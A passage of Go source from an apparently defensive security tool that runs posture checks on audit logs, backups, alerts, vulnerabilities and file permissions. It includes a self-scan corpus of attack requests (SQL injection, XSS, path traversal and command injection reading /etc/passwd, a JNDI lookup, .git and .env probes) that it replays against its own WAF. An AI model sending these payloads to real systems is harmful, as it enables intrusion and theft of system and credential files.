					return noData("verification did not finish: %v", err)
				}
				return fail("%v", err)
			}
			return pass("%d records and %d checkpoints verified", rep.Records, rep.Checkpoints)
		},
		"audit.checkpoint-age": func(ctx context.Context) (posture.Status, string) {
			cp, err := a.DB.LatestAuditCheckpoint(ctx)
			if errors.Is(err, audit.ErrNoCheckpoint) {
				return fail("no checkpoint signed yet")
			}
			if err != nil {
				return noData("%v", err)
			}
			tree, err := a.DB.AuditTree(ctx)
			if err != nil {
				return noData("%v", err)
			}
			backlog, err := a.DB.AuditBacklog(ctx)
			if err != nil {
				return noData("%v", err)
			}
			age := a.now().Sub(cp.At)
			limit := 2*cfg.AuditCheckpointEvery + time.Minute
			unsigned := int64(tree.Size-cp.Size) + backlog
			return check(unsigned == 0 || age <= limit, "the latest checkpoint, of %[1]d records, signed %[2]s ago (%[3]d records since)",
				"the latest checkpoint, of %[1]d records, signed %[2]s ago, and %[3]d records since are unsigned", cp.Size, age.Round(time.Second), unsigned)
		},
		"audit.checkpoint-dir": func(context.Context) (posture.Status, string) {
			dir := cfg.AuditCheckpointDir()
			return check(!within(cfg.DataDir, dir), "checkpoints in %s", "checkpoints in %s, inside the data directory: whoever can rewrite the database can reach them", dir)
		},
		"alerts.channel": func(ctx context.Context) (posture.Status, string) {
			if cfg.AlertEmail != "" {
				return pass("alert mail to %s", cfg.AlertEmail)
			}
			eps, err := a.DB.Webhooks(ctx)
			if err != nil {
				return noData("%v", err)
			}
			for _, e := range eps {
				if slices.Contains(e.Events, webhook.FindingRaised) {
					return pass("finding.raised is sent to webhook %s", e.ID)
				}
			}
			return fail("no alert-email and no webhook endpoint subscribed to finding.raised")
		},
		"detection.running": func(context.Context) (posture.Status, string) {
			return check(a.signals != nil, "threat detection takes signals", "threat detection is not running")
		},
		"build.inventory": func(context.Context) (posture.Status, string) {
			in, err := inventory.Read()
			if err != nil {
				return fail("%v", err)
			}
			return pass("%s with %d modules", in.Short(), len(in.Modules))
		},
		"build.vulnerabilities": func(context.Context) (posture.Status, string) {
			if cfg.VulnsDB == "" {
				return noData("no vulnerability database given (vulns-db)")
			}
			found, db, err := buildVulns(cfg.VulnsDB)
			if err != nil {
				return fail("%v", err)
			}
			var ids []string
			for _, v := range found {
				ids = append(ids, fmt.Sprintf("%s (%s %s, fixed in %s)", v.ID, v.Module, v.Version, orNone(v.FixedIn)))
			}
			return check(len(found) == 0, "no known vulnerability in the build's modules (database of %[1]s)%[2]s",
				"known vulnerabilities (database of %[1]s): %[2]s", db.Modified().Format(time.DateOnly), listOf(ids))
		},
		"fim.status": func(ctx context.Context) (posture.Status, string) {
			st, err := a.CheckFIM(ctx)
			if err != nil {
				return noData("%v", err)
			}
			switch st.Status {
			case "no_baseline":
				return noData("no file integrity baseline (bulwark fim baseline)")
			case "invalid":
				return fail("the baseline %s is refused: %s", st.Baseline, st.Error)
			}
			var changed []string
			for _, c := range st.Changes {
				changed = append(changed, c.Path+" "+c.Kind)
			}
			return check(len(changed) == 0, "%[1]d entries match the baseline of %[2]s%[3]s", "changed since the baseline of %[2]s: %[3]s",
				st.Entries, st.MadeAt.Format(time.DateOnly), listOf(changed))
		},
		"discovery.cards": func(ctx context.Context) (posture.Status, string) {
			rep, err := a.DB.LatestDiscoveryRun(ctx)
			if errors.Is(err, store.ErrNoDiscoveryRun) {
				return noData("sensitive-data discovery has not run yet (bulwark discover)")
			}
			if err != nil {
				return noData("%v", err)
			}
			var where []string
			for _, f := range rep.Cards() {
				where = append(where, fmt.Sprintf("%s (%d)", f.Location, f.Count))
			}
			return check(len(where) == 0, "the run of %[1]s read %[2]d bytes and found no card number%[3]s",
				"card numbers found by the run of %[1]s in %[3]s", rep.RunAt.Format(time.RFC3339), rep.Bytes, listOf(where))
		},
		"backups.recent": func(ctx context.Context) (posture.Status, string) {
			if strings.TrimSpace(cfg.BackupTargets) == "" {
				return fail("no backup-targets")
			}
			var last BackupReport
			if err := a.DB.LatestBackupRun(ctx, runBackup, true, &last); errors.Is(err, store.ErrNoBackupRun) {
				return fail("no backup yet")
			} else if err != nil {
				return noData("%v", err)
			}
			within := 2 * cfg.BackupSchedule
			if within <= 0 {
				within = 48 * time.Hour
			}
			age := a.now().Sub(last.CreatedAt)
			return check(age <= within, "backup %[1]s, %[2]s old, on %[3]d targets", "the newest complete backup, %[1]s, is %[2]s old (more than %[4]s)",
				last.ID, age.Round(time.Minute), len(last.Targets), within)
		},
		"backups.drill": func(ctx context.Context) (posture.Status, string) {
			var last, good DrillReport
			if err := a.DB.LatestBackupRun(ctx, runDrill, false, &last); errors.Is(err, store.ErrNoBackupRun) {
				return fail("no restore drill yet")
			} else if err != nil {
				return noData("%v", err)
			}
			if !last.OK {
				return fail("the latest drill, %s, failed: %s", last.ID, last.Error)
			}
			if err := a.DB.LatestBackupRun(ctx, runDrill, true, &good); err != nil {
				return noData("%v", err)
			}
			age := a.now().Sub(good.At)
			return check(age <= cfg.DrillMaxAge, "drill %[1]s passed %[2]s ago: recovery point %[3]s, recovery time %[4]d ms",
				"the last drill that passed, %[1]s, is %[2]s old (drill-max-age %[5]s)", good.ID, age.Round(time.Minute),
				good.RecoveryPoint.Format(time.RFC3339), good.RecoveryTimeMS, cfg.DrillMaxAge)
		},
		"backups.3-2-1": func(context.Context) (posture.Status, string) {
			targets, err := backup.ParseTargets(cfg.BackupTargets, cfg.BackupRetention)
			if err != nil {
				return fail("%v", err)
			}
			offsite, immutable := 0, 0
			for _, t := range targets {
				if t.Offsite() {
					offsite++
				}
				if t.Immutable() {
					immutable++
				}
			}
			return check(len(targets) >= 3 && offsite >= 1 && immutable >= 1, "%[1]d targets, %[2]d off the machine, %[3]d immutable",
				"%[1]d targets (want 3), %[2]d off the machine (want 1), %[3]d immutable (want 1)", len(targets), offsite, immutable)
		},
	}
}

// selfScanCorpus is what the self-scan replays: one attack of each family
// the WAF's Core Rule Set refuses, and paths a web server must not serve.
var selfScanCorpus = []struct {
	name, method, path, body string
	refused                  func(status int) bool
}{
	{name: "SQL injection in a query", method: http.MethodGet, path: "/api/v1/products?q=1%27%20OR%20%271%27%3D%271", refused: is403},
	{name: "SQL injection in a JSON body", method: http.MethodPost, path: "/api/v1/auth/login",
		body: `{"email":"a' UNION SELECT password FROM users--","password":"x"}`, refused: is403},
	{name: "cross-site scripting", method: http.MethodGet, path: "/api/v1/products?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", refused: is403},
	{name: "path traversal", method: http.MethodGet, path: "/api/v1/products?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", refused: is403},
	{name: "command injection", method: http.MethodGet, path: "/api/v1/products?q=%3Bcat%20%2Fetc%2Fpasswd", refused: is403},
	{name: "JNDI lookup", method: http.MethodGet, path: "/api/v1/products?q=%24%7Bjndi%3Aldap%3A%2F%2Fexample.invalid%2Fa%7D", refused: is403},
	{name: "source control metadata", method: http.MethodGet, path: "/.git/config", refused: func(s int) bool { return s == 403 || s == 404 }},
	{name: "environment file", method: http.MethodGet, path: "/.env", refused: func(s int) bool { return s == 403 || s == 404 }},
}

func is403(status int) bool { return status == http.StatusForbidden }

// selfRequest sends one request to the API's own listener.
func (a *App) selfRequest(ctx context.Context, method, path string, hdr http.Header, body io.Reader) (*http.Response, error) {
	l, _ := a.listener("api")
	scheme := "http"
	if l.TLS {
		scheme = "https"
	}
	req, err := http.NewRequestWithContext(ctx, method, scheme+"://"+dialAddr(l.Addr)+path, body)
	if err != nil {
		return nil, err
	}
	for k, v := range hdr {
		req.Header[k] = v
	}
	req.Header.Set("User-Agent", "bulwark-posture")
	return selfClient(&tls.Config{}).Do(req)
}

// selfClient is a client for the process's own listeners. It does not
// verify the certificate (the listener's name is not the address dialled;
// tls.certificate reads the certificate itself) and follows no redirect.
func selfClient(conf *tls.Config) *http.Client {
	tr := &http.Transport{Proxy: nil, DisableKeepAlives: true, TLSClientConfig: insecure(conf)}
	return &http.Client{Transport: tr, Timeout: 5 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func insecure(conf *tls.Config) *tls.Config {
	if conf == nil {
		conf = &tls.Config{}
	}
	conf.InsecureSkipVerify = true // #nosec G402 -- the shop's own listener, dialled by address: see selfClient
	return conf
}

// dialTLS handshakes with addr under conf (unverified: see selfClient).
func dialTLS(ctx context.Context, addr string, conf *tls.Config) (tls.ConnectionState, error) {
	d := tls.Dialer{NetDialer: &net.Dialer{Timeout: 3 * time.Second}, Config: insecure(conf)}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return tls.ConnectionState{}, err
	}
	defer c.Close()
	return c.(*tls.Conn).ConnectionState(), nil
}

// dialAddr turns a listen address into one to dial: an unspecified host
// (":8080", "0.0.0.0:8080") is dialled on the loopback.
func dialAddr(listen string) string {
	host, port, err := net.SplitHostPort(listen)
	if err != nil {
		return listen
	}
	ip := net.ParseIP(host)
	switch {
	case host == "" || (ip != nil && ip.IsUnspecified() && ip.To4() != nil):
		host = "127.0.0.1"
	case ip != nil && ip.IsUnspecified():
		host = "::1"
	}
	return net.JoinHostPort(host, port)
}

// refused reports an error that is the listener not answering at all
// (rather than refusing a handshake).
func refused(err error) bool {
	var op *net.OpError
	return errors.As(err, &op) && op.Op == "dial"
}

// unreachable is the outcome of a probe whose listener did not answer:
// no data (the server is not running, as when a command runs the checks
// with no server up), not a failure.
func unreachable(addr string, err error) (posture.Status, string) {
	return posture.NoData, fmt.Sprintf("nothing answered at %s: %v", addr, err)
}

// liveKeys lists the API keys neither revoked nor expired.
func (a *App) liveKeys(ctx context.Context) ([]apiKeyView, error) {
	keys, err := a.DB.APIKeys(ctx)
	if err != nil {
		return nil, err
	}
	var out []apiKeyView
	for _, k := range keys {
		if k.RevokedAt.IsZero() && (k.ExpiresAt.IsZero() || k.ExpiresAt.After(a.now())) {
			out = append(out, apiKeyView{ID: k.ID, CreatedAt: k.CreatedAt, LastUsedAt: k.LastUsedAt, ExpiresAt: k.ExpiresAt})
		}
	}
	return out, nil
}

type apiKeyView struct {
	ID                               string
	CreatedAt, LastUsedAt, ExpiresAt time.Time
}

// maxBaseline bounds a settings baseline file: a settings file is a few
// kilobytes.
const maxBaseline = 1 << 20

// readBaseline reads a declared settings baseline (the --config format).
func readBaseline(path string) (map[string]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("settings-baseline: %w", err)
	}
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, maxBaseline+1))
	if err != nil {
		return nil, fmt.Errorf("settings-baseline: %w", err)
	}
	if len(b) > maxBaseline {
		return nil, fmt.Errorf("settings-baseline %s: larger than %d bytes", path, maxBaseline)
	}
	base, err := config.ParseFile(b)
	if err != nil {
		return nil, fmt.Errorf("settings-baseline %s: %w", path, err)
	}
	return base, nil
}

// fileClosed checks that path is readable by its owner only.
func fileClosed(path string) (posture.Status, string) {
	info, err := os.Stat(path)
	if err != nil {
		return posture.NoData, err.Error()
	}
	if info.Mode().Perm()&0o077 != 0 {
		return posture.Fail, fmt.Sprintf("%s is %s: other users can read it", path, info.Mode().Perm())
	}
	return posture.Pass, fmt.Sprintf("%s is %s", path, info.Mode().Perm())
}

// dirClosed checks dir and the files directly in it: no access for other
// users (group and world).
func dirClosed(dir string) (posture.Status, string) {
	info, err := os.Stat(dir)
	if err != nil {
		return posture.NoData, err.Error()
	}
	var open []string
	if info.Mode().Perm()&0o077 != 0 {
		open = append(open, fmt.Sprintf("%s (%s)", dir, info.Mode().Perm()))
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		return posture.NoData, err.Error()
	}
	for _, e := range entries {
		fi, err := e.Info()
		if err != nil || fi.Mode()&os.ModeSymlink != 0 {
			continue
		}
		if fi.Mode().Perm()&0o077 != 0 {
			open = append(open, fmt.Sprintf("%s (%s)", e.Name(), fi.Mode().Perm()))
		}
	}
	if len(open) > 0 {
		return posture.Fail, "open to other users: " + listOf(open)
	}
	return posture.Pass, fmt.Sprintf("%s and its %d entries are closed to other users", dir, len(entries))
}

// within reports whether path is dir or inside it.
func within(dir, path string) bool {
	d, err1 := filepath.Abs(dir)
	p, err2 := filepath.Abs(path)
	if err1 != nil || err2 != nil {
		return false
	}
	rel, err := filepath.Rel(d, p)
	return err == nil && rel != ".." && !strings.HasPrefix(rel, ".."+string(filepath.Separator))
}

// postgresEncrypted reports whether a PostgreSQL URL's connection is
// encrypted or never leaves the host (a Unix socket, a loopback address).
func postgresEncrypted(raw string) bool {
	u, err := url.Parse(raw)
	if err != nil {
		return false
	}
	host := u.Hostname()
	if h := u.Query().Get("host"); h != "" {
		host = h
	}
	if host == "" || strings.HasPrefix(host, "/") || hostLocal(host) {
		return true
	}
	switch u.Query().Get("sslmode") {
	case "require", "verify-ca", "verify-full":
		return true
	}
	return false
}

// loopbackOrigin reports an origin on this machine (a storefront in
// development), which may be plain http.
func loopbackOrigin(o string) bool {
	u, err := url.Parse(o)
	return err == nil && hostLocal(u.Hostname())
}

func hostLocal(host string) bool {
	if host == "localhost" {
		return true
	}
	ip := net.ParseIP(host)
	return ip != nil && ip.IsLoopback()
}

// redactedHost names a URL by its host alone (no credentials).
func redactedHost(raw string) string {
	if u, err := url.Parse(raw); err == nil {
		return u.Host
	}
	return "(unparsable URL)"
}

// listOf joins up to ten items, saying how many more there are.
func listOf(items []string) string {
	if len(items) > 10 {
		return fmt.Sprintf("%s and %d more", strings.Join(items[:10], ", "), len(items)-10)
	}
	return strings.Join(items, ", ")
}

func errText(err error) string {
	if err == nil {
		return ""
	}
	return ": " + err.Error()
}
